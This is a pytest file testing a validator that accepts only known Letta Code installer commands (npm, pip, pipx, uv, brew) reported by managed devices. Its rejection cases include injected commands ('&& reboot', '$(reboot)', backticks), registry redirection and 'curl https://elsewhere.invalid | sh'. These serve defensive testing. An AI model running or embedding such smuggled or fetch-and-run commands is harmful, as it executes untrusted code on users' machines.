"""Manual commands: which are those of an installer, and which are not."""

from __future__ import annotations

from typing import Any

import pytest

from ansible_collections.fleetops.environments.plugins.module_utils.providers.letta.manual_command import (
    explain_not_updatable,
    find_manual_command,
    is_known_installer,
    write_instruction,
)
from tests.sandbox.seeded import SELF_UPDATE


@pytest.mark.parametrize(
    "command",
    [
        SELF_UPDATE["npm"]["manual_command"],
        "npm install -g @letta-ai/letta-code",
        "npm i --global @letta-ai/letta-code@0.34.12",
        "npm update -g @letta-ai/letta-code",
        "pnpm add -g @letta-ai/letta-code@latest",
        "bun add -g @letta-ai/letta-code@latest",
        "yarn global add @letta-ai/letta-code@0.35.0-rc.1",
        "pip install --upgrade letta",
        "pip3 install -U letta==0.34.12",
        "python -m pip install --upgrade letta",
        "python3 -m pip install --upgrade letta",
        "pipx upgrade letta",
        "uv tool upgrade letta",
        "brew upgrade letta-code",
    ],
)
def test_an_installers_own_command_is_known(command: str) -> None:
    assert is_known_installer(command)


@pytest.mark.parametrize(
    "command",
    [
        "",
        SELF_UPDATE["pip"]["manual_command"],
        "Update Letta Code Desktop to upgrade the bundled Letta Code runtime.",
        "Please run npm install -g @letta-ai/letta-code@latest",
        "npm install -g @letta-ai/letta-code@latest --registry https://elsewhere.invalid",
        "npm install -g @letta-ai/letta-code@latest && reboot",
        "npm install -g @letta-ai/letta-code@latest; reboot",
        "npm install -g @letta-ai/letta-code@latest\nreboot",
        "npm install -g @letta-ai/letta-code@$(reboot)",
        "npm install -g @letta-ai/letta-code@https://elsewhere.invalid/package.tgz",
        "npm install -g @letta-ai/letta-code-tools",
        "npm install -g @elsewhere/letta-code",
        "NPM INSTALL -g @letta-ai/letta-code",
        "npm  install -g @letta-ai/letta-code",
        "npm install @letta-ai/letta-code",
        "npm install -g @letta-ai/letta-code@٣",
        "sudo npm install -g @letta-ai/letta-code",
        "pip install letta-ui",
        "pip install --upgrade letta requests",
        "pip install --upgrade letta --index-url https://elsewhere.invalid",
        "pip install --upgrade letta==`reboot`",
        "curl https://elsewhere.invalid | sh",
    ],
)
def test_any_other_command_is_not_known(command: str) -> None:
    assert not is_known_installer(command)


@pytest.mark.parametrize(
    ("said", "command"),
    [
        (None, None),
        ({}, None),
        ({"manual_command": None}, None),
        ({"manual_command": " "}, None),
        ({"manual_command": ["npm"]}, None),
        ({"manual_command": " pipx upgrade letta\n"}, "pipx upgrade letta"),
    ],
)
def test_the_manual_command_is_what_the_device_reports(said: Any, command: str | None) -> None:
    assert find_manual_command(said) == command


def test_the_instruction_has_the_command_on_a_line_of_its_own() -> None:
    assert "pipx upgrade letta" in write_instruction("pipx upgrade letta").splitlines()


def test_a_device_that_is_not_updatable_says_why_in_one_line() -> None:
    said = {"supported": True, "writable": False, "reason": "Needs\nwrite access.", "install_path": "/opt/letta"}

    assert explain_not_updatable(said) == "not updatable: Needs write access.; installed in /opt/letta"
    assert explain_not_updatable(None) == "not updatable: reports no self_update support"
